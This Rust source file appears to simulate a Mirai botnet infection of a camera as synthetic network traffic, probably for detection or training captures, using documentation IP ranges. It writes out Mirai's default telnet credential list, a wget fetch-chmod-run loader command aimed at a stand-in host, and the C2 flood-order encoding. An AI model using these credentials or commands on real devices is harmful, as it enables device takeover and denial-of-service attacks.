//! The Mirai infection of the camera: inbound telnet brute force, loader, C2, scanning, floods.
//!
//! Attacker infrastructure uses documentation prefixes (RFC 5737: 198.51.100.0/24, 203.0.113.0/24).

use crate::app;
use crate::build::{self, Ip4, Tcp, TcpOpt, flags};
use crate::net::{Dev, Net};
use crate::rng::Rng;
use crate::scenario::{Role, host};
use crate::tcp::{Conn, Host, Os};

/// External host that brute-forces the camera's telnet.
pub const SCANNER_IP: [u8; 4] = [198, 51, 100, 37];
/// Loader host (telnet session + HTTP server for the bot binary).
pub const LOADER_IP: [u8; 4] = [198, 51, 100, 84];
/// Mirai C2 (binary protocol on 23/tcp).
pub const C2_IP: [u8; 4] = [203, 0, 113, 66];
/// C2 domain the bot resolves.
pub const C2_DOMAIN: &str = "cnc.santasbigcandycane.cx";
/// IRC C2 of the second-stage (Kaiten-style) bot.
pub const IRC_IP: [u8; 4] = [203, 0, 113, 99];
/// IRC port (non-standard).
pub const IRC_PORT: u16 = 6982;
/// The flood victim.
pub const FLOOD_TARGET: [u8; 4] = [203, 0, 113, 45];
/// Credential pairs the scanner tries, in order; the last one works.
pub const BRUTE_PAIRS: [(&str, &str); 7] = [
    ("admin", "admin"),
    ("root", "vizxv"),
    ("root", "888888"),
    ("support", "support"),
    ("root", "12345"),
    ("admin", "password"),
    ("root", "xc3511"),
];

const BUSYBOX_BANNER: &str = "\r\n\r\nBusyBox v1.19.3 (2015-12-24 17:52:11 CST) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ";

fn is_excluded(o: [u8; 4]) -> bool {
    let (o1, o2) = (o[0], o[1]);
    o1 == 0
        || o1 == 3
        || o1 == 10
        || o1 == 15
        || o1 == 16
        || o1 == 56
        || o1 == 127
        || [6, 7, 11, 21, 22, 26, 28, 29, 30, 33, 55, 214, 215].contains(&o1)
        || (o1 == 100 && (64..127).contains(&o2))
        || (o1 == 169 && o2 > 254)
        || (o1 == 172 && (16..32).contains(&o2))
        || (o1 == 192 && o2 == 168)
        || (o1 == 198 && (18..20).contains(&o2))
        || o1 >= 224
}

/// A random scan target, drawn like Mirai's `get_random_ip` (same exclusion list).
fn scan_target(rng: &mut Rng) -> [u8; 4] {
    loop {
        let ip = rng.u32().to_be_bytes();
        if !is_excluded(ip) {
            return ip;
        }
    }
}

fn remote(net: &Net, ip: [u8; 4], ttl: u8) -> Host {
    Host {
        mac: net.router.mac,
        ip,
        ttl,
        os: Os::Linux,
    }
}

/// One telnet connection: negotiation, login prompt, one credential pair.
/// Returns the open connection when the login succeeded (closed otherwise).
#[allow(clippy::too_many_arguments)]
fn telnet_try(
    net: &mut Net,
    rng: &mut Rng,
    client: Host,
    server: Host,
    t: u64,
    d_c: u64,
    d_s: u64,
    user: &str,
    pass: &str,
    ok: bool,
    prompt: &str,
) -> Option<Conn> {
    let cport = 32768 + rng.range(0, 28_000) as u16;
    let mut c = Conn::open(&mut net.tl, rng, client, cport, server, 23, t, d_c, d_s);
    // busybox telnetd: DO ECHO, DO NAWS, WILL ECHO, WILL SGA
    c.send(
        &mut net.tl,
        false,
        &[
            0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f, 0xff, 0xfb, 0x01, 0xff, 0xfb, 0x03,
        ],
    );
    // Mirai: WONT ECHO, WILL NAWS + SB NAWS 80x24, DO ECHO, DO SGA
    c.send(
        &mut net.tl,
        true,
        &[
            0xff, 0xfc, 0x01, 0xff, 0xfb, 0x1f, 0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff,
            0xf0, 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x03,
        ],
    );
    c.send(&mut net.tl, false, format!("\r\n{prompt}").as_bytes());
    c.send(&mut net.tl, true, format!("{user}\r\n").as_bytes());
    c.send(
        &mut net.tl,
        false,
        format!("{user}\r\nPassword: ").as_bytes(),
    );
    c.send(&mut net.tl, true, format!("{pass}\r\n").as_bytes());
    if ok {
        c.send(&mut net.tl, false, BUSYBOX_BANNER.as_bytes());
        Some(c)
    } else {
        c.idle(1_500_000 + rng.range(0, 1_500_000));
        c.send(
            &mut net.tl,
            false,
            format!("\r\nLogin incorrect\r\n{prompt}").as_bytes(),
        );
        c.close(&mut net.tl, true);
        None
    }
}

fn shell(net: &mut Net, c: &mut Conn, cmd: &str, out: &str) {
    c.send(&mut net.tl, true, format!("{cmd}\r\n").as_bytes());
    c.send(&mut net.tl, false, format!("{cmd}\r\n{out}").as_bytes());
}

fn mirai_probe_shell(net: &mut Net, c: &mut Conn, check: &str) {
    shell(net, c, "enable", "-sh: enable: not found\r\n# ");
    shell(net, c, "system", "-sh: system: not found\r\n# ");
    shell(net, c, "shell", "-sh: shell: not found\r\n# ");
    shell(net, c, "sh", &BUSYBOX_BANNER[2..]);
    shell(
        net,
        c,
        &format!("/bin/busybox {check}"),
        &format!("{check}: applet not found\r\n# "),
    );
}

/// Mirai C2 attack command: length-prefixed (duration, vector, targets, options).
fn c2_attack(duration: u32, vector: u8, target: [u8; 4], opts: &[(u8, &str)]) -> Vec<u8> {
    let mut b = duration.to_be_bytes().to_vec();
    b.push(vector);
    b.push(1);
    b.extend_from_slice(&target);
    b.push(32);
    b.push(opts.len() as u8);
    for (k, v) in opts {
        b.push(*k);
        b.push(v.len() as u8);
        b.extend_from_slice(v.as_bytes());
    }
    let mut m = ((b.len() + 2) as u16).to_be_bytes().to_vec();
    m.extend_from_slice(&b);
    m
}

/// Runs the whole infection. Times are fractions of the capture duration.
pub(crate) fn run(net: &mut Net, mut rng: Rng) {
    let dur = net.end - net.start;
    let cam = host(Role::Camera);
    let mut dev = Dev::new(cam, rng.fork());
    let t_bf = net.start + dur / 4;
    let scanner = remote(net, SCANNER_IP, 64 - 14);
    let loader = remote(net, LOADER_IP, 64 - 11);

    // (1) inbound brute force, one pair per connection, as Mirai's scanner does
    let mut t = t_bf;
    let mut shell_conn = None;
    for (i, (u, p)) in BRUTE_PAIRS.iter().enumerate() {
        let ok = i + 1 == BRUTE_PAIRS.len();
        let d_c = 70_000 + rng.range(0, 30_000);
        let r = telnet_try(
            net,
            &mut rng,
            scanner,
            cam,
            t,
            d_c,
            300,
            u,
            p,
            ok,
            "(none) login: ",
        );
        t += 2_000_000 + rng.range(0, 4_000_000);
        if let Some(c) = r {
            shell_conn = Some(c);
        }
    }
    let Some(mut c) = shell_conn else { return };
    mirai_probe_shell(net, &mut c, "MIRAI");
    c.close(&mut net.tl, true);

    // (2) the loader logs in with the reported pair, downloads and runs the bot
    let t_ld = c.t + 8_000_000 + rng.range(0, 4_000_000);
    let (u, p) = BRUTE_PAIRS[BRUTE_PAIRS.len() - 1];
    let Some(mut lc) = telnet_try(
        net,
        &mut rng,
        loader,
        cam,
        t_ld,
        60_000,
        300,
        u,
        p,
        true,
        "(none) login: ",
    ) else {
        return;
    };
    mirai_probe_shell(net, &mut lc, "ECCHI");
    shell(
        net,
        &mut lc,
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
        "rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\nproc /proc proc rw,relatime 0 0\r\ntmpfs /var tmpfs rw,relatime,size=4096k 0 0\r\nECCHI: applet not found\r\n# ",
    );
    let ldip = format!(
        "{}.{}.{}.{}",
        LOADER_IP[0], LOADER_IP[1], LOADER_IP[2], LOADER_IP[3]
    );
    let wget = format!(
        "cd /var; /bin/busybox wget http://{ldip}:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"
    );
    lc.send(&mut net.tl, true, format!("{wget}\r\n").as_bytes());
    // the download, from the camera
    let size = 24_576usize;
    let req = format!(
        "GET /bins/mirai.arm7 HTTP/1.1\r\nHost: {ldip}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n"
    );
    let mut body = vec![
        0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x28, 0, 1, 0, 0, 0,
    ];
    body.extend_from_slice(&rng.bytes(size - body.len()));
    let mut rsp = format!(
        "HTTP/1.1 200 OK\r\nDate: {}\r\nServer: Apache/2.4.29 (Ubuntu)\r\nLast-Modified: Sat, 24 Oct 2026 03:12:44 GMT\r\nContent-Length: {size}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
        crate::net::http_date(net.start_unix + (lc.t - net.start) / 1_000_000)
    )
    .into_bytes();
    rsp.extend_from_slice(&body);
    let t_dl = net.tcp_exchange(
        &mut dev,
        lc.t + 20_000,
        loader,
        80,
        &[(req.as_bytes(), &rsp)],
    );
    lc.idle(t_dl.saturating_sub(lc.t));
    lc.send(
        &mut net.tl,
        false,
        format!("{wget}\r\nConnecting to {ldip}:80 ({ldip}:80)\r\n-                    100% |*******************************| 24576   0:00:00 ETA\r\nECCHI: applet not found\r\n# ").as_bytes(),
    );
    shell(
        net,
        &mut lc,
        "./dvrHelper telnet.arm7; /bin/busybox IHCCE",
        "listening tun0\r\nIHCCE: applet not found\r\n# ",
    );
    lc.close(&mut net.tl, true);
    let t_run = lc.t + 500_000;

    // (3) C2: resolve the CNC domain (Mirai falls back to 8.8.8.8), connect to 23/tcp
    let gdns = remote(net, [8, 8, 8, 8], 64 - 8);
    let qid = rng.u16();
    let sport = dev.eport();
    net.udp(
        t_run,
        &cam,
        &gdns,
        sport,
        53,
        &app::dns_query(qid, C2_DOMAIN, app::QTYPE_A),
    );
    let t_ans = t_run + 18_000 + rng.range(0, 10_000);
    net.udp(
        t_ans,
        &gdns,
        &cam,
        53,
        sport,
        &app::dns_response_a(qid, C2_DOMAIN, &[C2_IP], 300),
    );
    let c2 = remote(net, C2_IP, 64 - 13);
    let c2port = dev.eport();
    let mut cc = Conn::open(
        &mut net.tl,
        &mut rng,
        cam,
        c2port,
        c2,
        23,
        t_ans + 1_000,
        300,
        95_000,
    );
    cc.send_acked(&mut net.tl, true, &[0, 0, 0, 1]);
    cc.send_acked(&mut net.tl, true, &[0]);
    let t_scan = cc.t + 1_000_000;

    // (4) scanning: raw SYNs with seq == destination address
    let t_flood = net.start + dur * 3 / 4;
    scan(net, &mut rng, cam, t_scan, net.end);

    // C2 keepalives every 60 s and the attack orders
    let mut udp_sent = false;
    let mut syn_sent = false;
    loop {
        let next = cc.t + 60_000_000 + rng.range(0, 1_000_000);
        if !udp_sent && next > t_flood {
            cc.idle(t_flood.saturating_sub(cc.t));
            // vector 0 = UDP generic, payload size 512
            cc.send(
                &mut net.tl,
                false,
                &c2_attack(10, 0, FLOOD_TARGET, &[(0, "512")]),
            );
            cc.ack(&mut net.tl, true);
            udp_flood(net, &mut rng, cam, cc.t + 2_000, 10_000_000);
            udp_sent = true;
            continue;
        }
        if udp_sent && !syn_sent {
            cc.idle(12_000_000);
            // vector 3 = SYN, dport 80
            cc.send(
                &mut net.tl,
                false,
                &c2_attack(5, 3, FLOOD_TARGET, &[(7, "80")]),
            );
            cc.ack(&mut net.tl, true);
            syn_flood(net, &mut rng, cam, cc.t + 2_000, 5_000_000);
            syn_sent = true;
            continue;
        }
        if next >= net.end {
            break;
        }
        cc.idle(next - cc.t);
        cc.send(&mut net.tl, true, &[0, 0]);
        cc.send(&mut net.tl, false, &[0, 0]);
        cc.ack(&mut net.tl, true);
    }

    // (5) second-stage IRC bot
    irc(net, &mut rng, &mut dev, t_run + 40_000_000);
}

#[allow(clippy::too_many_arguments)]
fn raw_tcp(
    net: &mut Net,
    rng: &mut Rng,
    from: &Host,
    to_mac: [u8; 6],
    dst: [u8; 4],
    ttl: u8,
    df: bool,
    seg: &Tcp<'_>,
    t: u64,
) {
    let ip = Ip4 {
        src: from.ip,
        dst,
        ttl,
        id: rng.u16(),
        df,
        tos: 0,
    };
    net.tl
        .push(t, build::eth_ipv4_tcp(from.mac, to_mac, &ip, seg));
}

fn scan(net: &mut Net, rng: &mut Rng, cam: Host, from: u64, to: u64) {
    let sport = 1024 + rng.range(0, 64_000) as u16;
    let window = rng.u16() | 0x0100;
    let router_mac = net.router.mac;
    let mut t = from;
    let mut i: u64 = 0;
    let mut brute_targets: Vec<([u8; 4], u16, u64)> = Vec::new();
    while t < to {
        let burst = 2 + rng.range(0, 5);
        for _ in 0..burst {
            let dst = scan_target(rng);
            let dport = if i.is_multiple_of(10) { 2323 } else { 23 };
            i += 1;
            let seq = u32::from_be_bytes(dst);
            let seg = Tcp {
                sport,
                dport,
                seq,
                ack: 0,
                flags: flags::SYN,
                window,
                options: &[],
                payload: &[],
            };
            raw_tcp(net, rng, &cam, router_mac, dst, 64, false, &seg, t);
            let r = rng.range(0, 1000);
            let rt = t + 30_000 + rng.range(0, 250_000);
            let ttl = 40 + rng.range(0, 20) as u8;
            if r < 30 {
                // closed port: RST/ACK
                let seg = Tcp {
                    sport: dport,
                    dport: sport,
                    seq: 0,
                    ack: seq.wrapping_add(1),
                    flags: flags::RST | flags::ACK,
                    window: 0,
                    options: &[],
                    payload: &[],
                };
                raw_tcp(
                    net,
                    rng,
                    &Host {
                        mac: router_mac,
                        ip: dst,
                        ttl,
                        os: Os::Linux,
                    },
                    cam.mac,
                    cam.ip,
                    ttl,
                    false,
                    &seg,
                    rt,
                );
            } else if r < 38 {
                // open: SYN/ACK, the camera's kernel answers RST (the SYN came from a raw socket)
                let isn = rng.u32();
                let opts = build::tcp_options(&[TcpOpt::Mss(1460)]);
                let seg = Tcp {
                    sport: dport,
                    dport: sport,
                    seq: isn,
                    ack: seq.wrapping_add(1),
                    flags: flags::SYN | flags::ACK,
                    window: 5840,
                    options: &opts,
                    payload: &[],
                };
                raw_tcp(
                    net,
                    rng,
                    &Host {
                        mac: router_mac,
                        ip: dst,
                        ttl,
                        os: Os::Linux,
                    },
                    cam.mac,
                    cam.ip,
                    ttl,
                    true,
                    &seg,
                    rt,
                );
                let seg = Tcp {
                    sport,
                    dport,
                    seq: seq.wrapping_add(1),
                    ack: 0,
                    flags: flags::RST,
                    window: 0,
                    options: &[],
                    payload: &[],
                };
                raw_tcp(net, rng, &cam, router_mac, dst, 64, true, &seg, rt + 60);
                if brute_targets.len() < 3 {
                    brute_targets.push((dst, dport, rt + 200_000));
                }
            }
        }
        t += 700_000 + rng.range(0, 600_000);
    }
    // outbound brute force against the hosts that answered: one random weighted pair each
    for (dst, dport, t) in brute_targets {
        let ttl = 40 + rng.range(0, 20) as u8;
        let victim = Host {
            mac: router_mac,
            ip: dst,
            ttl,
            os: Os::Linux,
        };
        let _ = dport;
        let rtt = 40_000 + rng.range(0, 120_000);
        for k in 0..2 {
            let (u, p) = *rng.pick(&BRUTE_PAIRS[..6]);
            let tt = t + k * 5_000_000;
            let _ = telnet_try(net, rng, cam, victim, tt, 300, rtt, u, p, false, "login: ");
        }
    }
}

fn udp_flood(net: &mut Net, rng: &mut Rng, cam: Host, from: u64, dur: u64) {
    let router_mac = net.router.mac;
    let n = 4_000u64;
    for k in 0..n {
        let t = from + k * dur / n + rng.range(0, 500);
        let ip = Ip4 {
            src: cam.ip,
            dst: FLOOD_TARGET,
            ttl: 64,
            id: rng.u16(),
            df: false,
            tos: 0,
        };
        let payload = rng.bytes(512);
        let f = build::eth_ipv4_udp(cam.mac, router_mac, &ip, rng.u16(), rng.u16(), &payload);
        net.tl.push(t, f);
    }
}

fn syn_flood(net: &mut Net, rng: &mut Rng, cam: Host, from: u64, dur: u64) {
    let router_mac = net.router.mac;
    let n = 1_500u64;
    for k in 0..n {
        let t = from + k * dur / n + rng.range(0, 500);
        let opts = build::tcp_options(&[
            TcpOpt::Mss(1400 + rng.range(0, 60) as u16),
            TcpOpt::SackPerm,
            TcpOpt::Ts(rng.u32(), 0),
            TcpOpt::Nop,
            TcpOpt::Ws(6),
        ]);
        let seg = Tcp {
            sport: rng.u16() | 0x0400,
            dport: 80,
            seq: rng.u32(),
            ack: 0,
            flags: flags::SYN,
            window: rng.u16(),
            options: &opts,
            payload: &[],
        };
        raw_tcp(net, rng, &cam, router_mac, FLOOD_TARGET, 64, true, &seg, t);
    }
}

fn irc(net: &mut Net, rng: &mut Rng, dev: &mut Dev, t: u64) {
    let irc = remote(net, IRC_IP, 64 - 12);
    let port = dev.eport();
    let mut c = Conn::open(
        &mut net.tl,
        rng,
        dev.h,
        port,
        irc,
        IRC_PORT,
        t,
        300,
        110_000,
    );
    let nick = "[ARM7|HIK]x7f3kq";
    c.send(
        &mut net.tl,
        true,
        format!("NICK {nick}\r\nUSER x7f3kq localhost localhost :x7f3kq\r\n").as_bytes(),
    );
    c.send(
        &mut net.tl,
        false,
        format!(":irc.bot.local 001 {nick} :Welcome\r\n:irc.bot.local 376 {nick} :End of /MOTD command.\r\n").as_bytes(),
    );
    c.send(&mut net.tl, true, b"JOIN #hik :k4it3n\r\n");
    c.send(
        &mut net.tl,
        false,
        format!(
            ":{nick}!x7f3kq@{} JOIN :#hik\r\n:op!op@bot.local PRIVMSG #hik :!* SCANNER ON\r\n",
            "198.51.100.84"
        )
        .as_bytes(),
    );
    c.ack(&mut net.tl, true);
    while c.t + 90_000_000 < net.end {
        c.idle(90_000_000 + rng.range(0, 5_000_000));
        c.send(&mut net.tl, false, b"PING :irc.bot.local\r\n");
        c.send(&mut net.tl, true, b"PONG :irc.bot.local\r\n");
        c.ack(&mut net.tl, false);
    }
}
